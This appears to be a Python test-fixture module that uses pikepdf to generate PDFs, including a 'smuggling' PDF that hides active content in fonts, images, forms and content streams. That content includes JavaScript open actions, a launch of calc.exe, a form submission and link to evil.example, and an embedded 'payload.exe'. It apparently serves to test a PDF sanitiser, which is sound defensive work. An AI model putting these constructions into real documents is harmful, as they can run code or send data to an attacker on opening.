"""Small PDFs made for tests: pre-read attachments, well-formed or hostile."""

from __future__ import annotations

from pathlib import Path

import pikepdf


def make_pdf(path: Path, pages: int, text: str = "Attachment page") -> Path:
    """A PDF of ``pages`` A4 pages, each saying ``TEXT N`` in Helvetica."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(
            f"BT /F1 24 Tf 72 760 Td ({text} {number}) Tj ET".encode("ascii")
        )
    pdf.save(path)
    return path


def make_smuggling_pdf(path: Path, pages: int = 2, text: str = "Smuggled page") -> Path:
    """Pages that draw plainly, with everything that acts hidden behind their resources.

    The page's font, picture, graphics state and form each carry actions: a
    JavaScript ``/A``, ``/AA`` with a launch, a form submission, a data import,
    links into other files; the font points at a second catalogue (with an
    open action, JavaScript in its ``/Names``, an embedded file and a form)
    and at an ``/EF`` file specification.  The form names itself among its
    resources (a loop), and the catalogue and pages carry actions as well.
    The content streams name the font ``/JavaScript`` and hold inline
    dictionaries (a marked-content property list, an inline picture's) with
    ``/JS`` and ``/OpenAction`` keys.
    """
    make_pdf(path, pages, text)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        script = pdf.make_indirect(
            pikepdf.Dictionary(
                S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('smuggled')")
            )
        )
        payload = pdf.make_stream(b"MZ smuggled payload", Type=pikepdf.Name.EmbeddedFile)
        file = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Filespec,
                F=pikepdf.String("payload.exe"),
                EF=pikepdf.Dictionary(F=payload),
            )
        )
        actions = {
            "Launch": pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")),
            "SubmitForm": pikepdf.Dictionary(
                S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/submit")
            ),
            "ImportData": pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=file),
            "GoToR": pikepdf.Dictionary(
                S=pikepdf.Name.GoToR, F=pikepdf.String("other.pdf"), D=pikepdf.Array([0])
            ),
            "GoToE": pikepdf.Dictionary(S=pikepdf.Name.GoToE, T=pikepdf.Dictionary(R="/C")),
            "URI": pikepdf.Dictionary(
                S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example")
            ),
        }
        hooks = pikepdf.Dictionary(
            O=actions["Launch"], C=actions["SubmitForm"], PO=actions["ImportData"], K=script
        )
        catalog = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Catalog,
                OpenAction=script,
                Names=pikepdf.Dictionary(
                    JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["s", script])),
                    EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array(["payload.exe", file])),
                ),
                AcroForm=pikepdf.Dictionary(Fields=pikepdf.Array()),
            )
        )
        font = pdf.pages[0].obj.Resources.Font.F1
        font.A = script
        font.AA = hooks
        font.FontDescriptor = catalog
        font.EF = pikepdf.Dictionary(F=payload)
        font.Catalog = catalog
        font.Next = actions["GoToR"]
        picture = pdf.make_stream(
            b"\x00\x80\xff", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=3,
            Height=1, ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=8,
            A=actions["URI"], AF=pikepdf.Array([file]), OPI=pikepdf.Dictionary(),
        )  # fmt: skip
        form = pdf.make_stream(
            b"0 0 1 rg 0 0 200 20 re f BT /JavaScript 10 Tf 4 6 Td (A form) Tj ET\n"
            b"/Span << /MCID 0 /JS (app.alert('marked')) >> BDC EMC /Self BMC EMC /Hidden MP\n",
            Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
            BBox=pikepdf.Array([0, 0, 200, 20]), A=script, AA=hooks, OpenAction=script,
            Ref=pikepdf.Dictionary(F=file, Page=0), Names=catalog.Names, Metadata=payload,
        )  # fmt: skip
        form.Resources = pikepdf.Dictionary(
            Font=pikepdf.Dictionary(JavaScript=font),
            XObject=pikepdf.Dictionary(Self=form),
            Properties=pikepdf.Dictionary(Hidden=catalog),
        )
        state = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.ExtGState, ca=1, A=actions["GoToE"], AA=hooks,
                Font=pikepdf.Array([font, 12]),
            )
        )  # fmt: skip
        for page in pdf.pages:
            page.obj.Resources = pikepdf.Dictionary(
                Font=pikepdf.Dictionary(F1=font, JavaScript=font),
                XObject=pikepdf.Dictionary(Im1=picture, Fm1=form, Unused=catalog),
                ExtGState=pikepdf.Dictionary(GS1=state),
                Properties=pikepdf.Dictionary(MC0=catalog),
            )
            page.contents_add(
                b"/GS1 gs q 200 0 0 20 72 700 cm /Im1 Do Q q 1 0 0 1 72 650 cm /Fm1 Do Q\n"
                b"% /MC0 /Unused: named, so kept by name, and refused as no drawing's kind\n"
                b"BT /JavaScript 12 Tf 72 620 Td (Named JavaScript) Tj ET\n"
                b"/P << /MCID 1 /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> BDC EMC\n"
                b"q 20 0 0 20 300 600 cm BI /W 1 /H 1 /BPC 8 /CS /G /JS (app.alert(2))\n"
                b"ID \x80 EI Q\n"
            )
            page.obj.AA = pikepdf.Dictionary(O=script)
        pdf.Root.OpenAction = script
        pdf.save(path)
    return path


def make_deep_pdf(path: Path, depth: int, text: str = "Deep page") -> Path:
    """One page drawing a form that draws a form, ``depth`` forms deep, the last one text."""
    make_pdf(path, 1, text)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        page = pdf.pages[0]
        inner = pdf.make_stream(
            b"0 1 0 rg 0 0 10 10 re f", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
            BBox=pikepdf.Array([0, 0, 10, 10]),
        )  # fmt: skip
        for _ in range(depth - 1):
            inner = pdf.make_stream(
                b"/N Do", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                BBox=pikepdf.Array([0, 0, 10, 10]),
                Resources=pikepdf.Dictionary(XObject=pikepdf.Dictionary(N=inner)),
            )  # fmt: skip
        page.obj.Resources.XObject = pikepdf.Dictionary(D=inner)
        page.contents_add(b"q 1 0 0 1 72 600 cm /D Do Q\n")
        pdf.save(path)
    return path
